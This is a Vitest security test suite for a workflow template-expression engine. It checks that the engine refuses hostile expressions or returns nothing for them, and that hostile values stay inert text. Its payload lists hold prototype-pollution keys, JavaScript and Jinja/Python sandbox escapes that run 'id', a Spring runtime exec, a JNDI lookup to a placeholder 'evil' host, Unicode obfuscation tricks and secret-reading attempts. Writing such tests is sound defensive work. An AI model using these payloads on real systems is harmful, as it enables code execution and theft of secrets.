import { afterEach, describe, expect, test } from "vitest";
import type { Scope } from "./ast.ts";
import { evaluateTemplate } from "./evaluate-template.ts";
import { parseTemplate } from "./parse-template.ts";
import { evaluated, scopeOf, templateValueOf } from "./test-scope.ts";
import type { Value } from "./value.ts";

const secretInside = "the engine's own";
const data = {
  inputs: {
    name: "ann",
    list: [1],
    map: { a: 1 },
    hostile: JSON.parse(
      `{"__proto__":"${secretInside}","constructor":"${secretInside}","_internal":"${secretInside}"}`,
    ),
    ...Object.fromEntries(
      ["__proto__", "constructor", "prototype", "__internal__", "_internal"].map((n, i) => [`k${i}`, n]),
    ),
  },
  blocks: { a: { outputs: { x: 1 }, _internal: secretInside, __internal__: { key: secretInside } } },
  metadata: { run_id: "r1" },
};

afterEach(() => {
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect("escaped" in globalThis).toBe(false);
});

/** Written by the author of a hostile workflow: each must be refused when parsed or find nothing when evaluated. */
const hostileExpressions = [
  "inputs.__proto__",
  "inputs['__proto__']",
  'inputs["__proto__"].polluted',
  String.raw`inputs['\u005f_proto__']`,
  "inputs['__pro' + 'to__']",
  "inputs[inputs.k0]",
  "inputs[inputs.k1]",
  "inputs[inputs.k2]",
  "inputs[lower('__PROTO__')]",
  "inputs['${inputs.k0}']",
  "inputs[join(['__', 'proto', '__'])]",
  "inputs.hostile[inputs.k0]",
  "inputs.hostile.constructor",
  "inputs.hostile[inputs.k4]",
  "inputs.constructor",
  "inputs.constructor.constructor('return process')()",
  "inputs['constructor']['constructor']('globalThis.escaped = 1')()",
  "inputs.name.constructor",
  "inputs.list.constructor.prototype",
  "inputs.map.prototype",
  "blocks.a.__internal__",
  "blocks.a['__internal__'].key",
  "blocks.a[inputs.k3].key",
  "blocks.a._internal",
  "blocks.a[inputs.k4]",
  "blocks._internal",
  "blocks.__internal__.outputs.x",
  "metadata.__internal__",
  "each._internal",
  "secrets.__proto__",
  "inputs.toString",
  "inputs.hasOwnProperty",
  "inputs.__defineGetter__",
  "inputs.__lookupGetter__",
  "inputs.evaluated",
  "inputs.name.length",
  "inputs.list.length",
  "inputs.list['map']",
  "inputs.list.push",
  "inputs.name[0]",
  "inputs['name\u0000']",
  "inputs.name.__class__",
  "inputs.__class__.__mro__[1].__subclasses__()",
  "''.__class__.__mro__[2].__subclasses__()",
  "[].constructor.constructor('return this')()",
  "().__class__",
  "(inputs.name).constructor",
  "inputs.name.__globals__['os'].popen('id')",
  "config.items()",
  "self.__init__.__globals__",
  "request.application.__globals__.__builtins__",
  "cycler.__init__.__globals__.os",
  "lipsum.__globals__",
  "range.constructor",
  "len.constructor('return 1')()",
  "constructor('return 1')()",
  "__proto__('x')",
  "toString()",
  "hasOwnProperty('a')",
  "evaluated()",
  "process.exit(1)",
  "process.mainModule.require('child_process')",
  "globalThis.escaped = 1",
  "this.constructor",
  "require('child_process').execSync('id')",
  "import('node:fs')",
  "eval('1')",
  "Function('return 1')()",
  "new Function('x')",
  "() => 1",
  "function () {}",
  "`${1}`",
  "inputs.name; 1",
  "inputs.name, 1",
  "inputs.name = 'x'",
  "inputs.__proto__.polluted = 1",
  "inputs.a ?? inputs.constructor",
  "inputs?.constructor",
  "{}.constructor",
  "{{7*7}}",
  "{% for x in y %}",
  "<%= 7*7 %>",
  "#{7*7}",
  "*{7*7}",
  "@(7*7)",
  "~{7*7}",
  "T(java.lang.Runtime).getRuntime().exec('id')",
  "jndi:ldap://evil/a",
  "ｉnputs.name",
  "inputs.\uff3f_proto__",
  "inputs.__prоto__",
  "inputs\u200b.__proto__",
  "inputs\u2024__proto__",
  "inputs.\u0000__proto__",
  "inputs.\u202e__proto__",
  "in\u00adputs.name",
  "blocks[inputs.name].outputs",
  "secrets[inputs.name]",
  "secrets",
  "json(secrets)",
  "keys(blocks)",
  'from_json(\'{"__proto__": {"polluted": 1}}\').polluted',
];

describe("a hostile expression is refused or finds nothing", () => {
  test.each(hostileExpressions)("%s", (payload) => {
    const parsed = parseTemplate(`\${${payload}}`);
    if (!parsed.ok) {
      expect(parsed.error.problems.length).toBeGreaterThan(0);
      return;
    }
    const result = evaluateTemplate(parsed.value, scopeOf(data));
    expect(result).toMatchObject({ ok: false, error: { code: "missing-value" } });
  });

  test.each(["__proto__", "constructor", "prototype", "__internal__", "_internal"])("%s is refused by name", (name) => {
    for (const source of [
      `inputs.${name}`,
      `inputs['${name}']`,
      `blocks.a.${name}.x`,
      `blocks.${name}`,
      `inputs.a[0].${name}`,
      `${name}.executor`,
      `${name}['x']`,
    ]) {
      const parsed = parseTemplate(`\${${source}}`);
      expect(!parsed.ok && parsed.error.problems[0]?.code).toBe("refused-name");
      expect(String(!parsed.ok && parsed.error.problems[0]?.fix)).not.toContain(`blocks.${name}`);
    }
  });
});

test("a computed name that is refused never reaches the scope, not even one that would answer", () => {
  const asked: unknown[] = [];
  const eager: Scope = {
    read: (_, keys) => {
      asked.push(...keys);
      return { found: true, value: "__proto__" };
    },
  };
  const template = parseTemplate("${inputs.a[inputs.b]}");
  if (!template.ok) throw new Error("must parse");
  expect(evaluateTemplate(template.value, eager)).toMatchObject({ ok: false, error: { code: "missing-value" } });
  expect(asked).toEqual(["b"]);
});

/** Held by an input, an output, an answer of a model: each must arrive as the text it is. */
const hostileValues = [
  ...hostileExpressions,
  ...hostileExpressions.map((payload) => `\${${payload}}`),
  "${inputs.name}",
  "$${inputs.name}",
  "${secrets.API_KEY}",
  "x' == 'x' or '1' == '1",
  "' + secrets.API_KEY + '",
  "' or true or '",
  "}${secrets.API_KEY}",
  "\\",
  "'",
  '"',
  "$&$1$`",
  "\u0000\u202e\ud800",
];

describe("a hostile value stays the text it is", () => {
  test.each(hostileValues)("%s", (payload) => {
    const inputs = { inputs: { v: payload } };
    expect(templateValueOf("${inputs.v}", inputs)).toBe(payload);
    expect(templateValueOf("<${inputs.v}>", inputs)).toBe(`<${payload}>`);
    expect(evaluated("'${inputs.v}'", inputs)).toBe(payload);
    expect(evaluated("'<${inputs.v}>' == 'x'", inputs)).toBe(false);
    expect(evaluated("inputs.v == 'production' or '${inputs.v}' == 'production'", inputs)).toBe(false);
    expect(evaluated("replace('a-b', '-', inputs.v)", inputs)).toBe(`a${payload}b`);
    expect(evaluated("join(split(inputs.v, 'o'), 'o')", inputs)).toBe(payload);
  });
});

describe("what an expression builds has no prototype either", () => {
  const prototypes = (value: Value): unknown[] =>
    value !== null && typeof value === "object"
      ? [Array.isArray(value) ? null : Object.getPrototypeOf(value), ...Object.values(value).flatMap(prototypes)]
      : [];

  test.each([
    `from_json('{"__proto__": {"polluted": 1}, "a": [{"constructor": {"prototype": {}}}]}')`,
    "values(inputs)",
    "[inputs.map] + [inputs.hostile]",
    "unique([inputs.map, inputs.hostile])",
  ])("%s", (source) => {
    expect(new Set(prototypes(evaluated(source, data)))).toEqual(new Set([null]));
  });
});
